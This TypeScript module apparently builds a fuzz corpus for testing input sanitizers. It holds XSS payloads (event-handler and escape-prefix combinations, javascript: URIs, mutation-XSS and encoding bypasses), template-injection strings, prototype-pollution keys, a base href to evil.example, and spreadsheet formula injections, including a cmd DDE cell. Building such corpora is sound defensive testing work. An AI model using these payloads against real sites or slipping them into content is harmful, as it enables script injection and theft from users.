/** What a payload calls, and what it asks for, where it is taken for more than text. */
export const CALL = 'pwned()'
export const PROBE = '/payload-probe'

/** Attributes that run by themselves or when somebody touches or leaves the element. */
const handlers = [
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
]
const elements = [
  'img',
  'svg',
  'body',
  'iframe',
  'video',
  'details open',
  'input autofocus',
  'object',
  'marquee',
  'audio',
  'style',
  'select',
  'math',
  'a',
  'button',
]
/** Ways out of where a text stands: an attribute, a title, a script, a comment, a template, a style. */
const escapes = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '</style>',
  '{{/',
  '`>',
  '\\">',
  '&lt;/b&gt;',
  '\u2028',
  '%22%3E',
]

const crossed = elements.flatMap(element =>
  handlers.map(handler => `<${element} src=${PROBE} ${handler}=${CALL}>`),
)
const escaped = escapes.flatMap(way => [
  `${way}<script>${CALL}</script>`,
  `${way}<img src=${PROBE} onerror=${CALL}>`,
  `${way}<svg/onload=${CALL}>`,
])

const others = [
  `javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=${PROBE}>`,
  `<meta http-equiv=refresh content="0;url=${PROBE}">`,
  `<style>@import '${PROBE}'</style>`,
  `<div style="background:url(${PROBE})">x</div>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$el.ownerDocument.defaultView.${CALL}}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `@:click="${CALL}"`,
  `{a|x}{b|<img src=${PROBE} onerror=${CALL}>}`,
  `{c} {b} {@[1]} {a0}`,
  `@:link:{'x'} | {n} {0}`,
  `<math><mtext><table><mglyph><style><!--</style><img src=${PROBE} onerror=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><script href=data:,${CALL} />`,
  `<noscript><p title="</noscript><img src=${PROBE} onerror=${CALL}>">`,
  `＜script＞${CALL}＜/script＞`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `"onfocus=${CALL} autofocus="`,
  `'; ${CALL}; '`,
  `\`; ${CALL}; \``,
  `&#60;img src=${PROBE} onerror=${CALL}&#62;`,
  `\\u003cimg src=${PROBE} onerror=${CALL}\\u003e`,
  `\u202e<script>${CALL}</script>`,
  `__proto__`,
  `constructor`,
]

/** Cells a spreadsheet would take for a formula. */
export const formulas = [
  '=1+1',
  `=HYPERLINK("${PROBE}","x")`,
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '="";=1',
  '|=1',
]

export const payloads: readonly string[] = [...new Set([...crossed, ...escaped, ...others, ...formulas])]
